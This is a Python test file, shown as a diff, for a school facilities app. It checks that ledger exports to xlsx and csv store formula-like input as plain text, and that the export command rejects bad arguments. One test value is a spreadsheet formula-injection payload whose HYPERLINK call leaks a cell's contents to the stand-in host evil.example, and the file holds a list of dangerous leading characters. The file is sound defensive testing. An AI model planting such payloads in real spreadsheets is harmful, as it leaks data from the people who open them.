@@ -1,0 +1,73 @@
+"""Ledgers through the CLI and the forms: formula-like text typed into a report, a reporter's name and a place's
+name comes back from every workbook exactly as typed and as text, never a formula; the command's errors."""
+import csv
+import datetime
+import io
+import uuid
+
+from helpers import csrf_token
+from openpyxl import load_workbook
+
+from houqin import db
+from houqin.ledgers.catalogue import CATALOGUE
+from houqin.models import Place, WorkOrder
+
+TYPED = {'title': '=HYPERLINK("http://evil.example/?x="&B2,"Click")', 'name': '@SUM(1)', 'place': '+1'}
+
+
+def export(runner, kind, path):
+    """Run `flask houqin ledger KIND` over the days around today for the test campus."""
+    today = datetime.date.today()
+    first, last = (today - datetime.timedelta(days=2)).isoformat(), (today + datetime.timedelta(days=2)).isoformat()
+    return runner.invoke(args=['houqin', 'ledger', kind, '--from', first, '--to', last, '--out',
+                               str(path), '--campus', 'test'])
+
+
+def test_typed_formulas_stay_text_in_every_workbook(app, school, runner, tmp_path):
+    with db.database.connection_context():
+        Place.update(name=TYPED['place']).where(Place.id == school['building'].id).execute()
+    client = app.test_client()
+    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()),
+            'title': TYPED['title'], 'name': TYPED['name'], 'phone': '-1'}
+    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
+    with db.database.connection_context():
+        WorkOrder.update(liable_party='-1').execute()
+    texts = set()
+    for kind in CATALOGUE:
+        path = tmp_path / f'{kind}.xlsx'
+        result = export(runner, kind, path)
+        assert result.exit_code == 0, result.output
+        for ws in load_workbook(path).worksheets:
+            for row in ws.iter_rows():
+                for cell in row:
+                    assert cell.data_type != 'f', (kind, cell.coordinate, cell.value)
+                    if isinstance(cell.value, str):
+                        texts.add(cell.value)
+    assert {TYPED['title'], TYPED['name'], '-1', '+1 › 一楼 › 101教室'} <= texts
+    result = export(runner, 'repairs', tmp_path / 'repairs.csv')
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / 'repairs.csv').read_text(encoding='utf-8')
+    assert text.startswith('\ufeff')
+    rows = list(csv.reader(io.StringIO(text.lstrip('\ufeff'))))
+    assert rows[0][0].startswith('测试中心小学 · ') and rows[1][0] == '编号' and len(rows) == 3
+    cells = rows[2]
+    assert "'" + TYPED['title'] in cells and "'" + TYPED['name'] in cells and "'+1 › 一楼 › 101教室" in cells
+    assert not any(c.startswith(('=', '+', '-', '@', '\t', '\r')) for row in rows for c in row)
+
+
+def test_the_command_refuses_an_unknown_kind_a_bad_date_and_a_bad_suffix(app, school, runner, tmp_path):
+    out = tmp_path / 'x.xlsx'
+    result = runner.invoke(args=['houqin', 'ledger', 'canteens', '--from', '2026-01-01', '--to', '2026-01-31',
+                                 '--out', str(out)])
+    assert result.exit_code == 2 and "unknown ledger 'canteens'" in result.output
+    assert ', '.join(CATALOGUE) in result.output
+    for first, last in (('2026-02-30', '2026-03-01'), ('2026-03-02', '2026-03-01'), ('0001-01-01', '2026-01-01'), ('2020-01-01', '2026-01-01')):
+        result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', first, '--to', last, '--out', str(out)])
+        assert result.exit_code == 2 and f'--from {first} --to {last}' in result.output, result.output
+    result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', '2026-01-01', '--to', '2026-01-31',
+                                 '--out', str(tmp_path / 'x.pdf')])
+    assert result.exit_code == 2 and '.xlsx or .csv' in result.output
+    result = runner.invoke(args=['houqin', 'ledger', 'repairs', '--from', '2026-01-01', '--to', '2026-01-31',
+                                 '--out', str(out), '--campus', 'nope'])
+    assert result.exit_code == 2 and "no campus with the code 'nope'" in result.output
+    assert not out.exists()
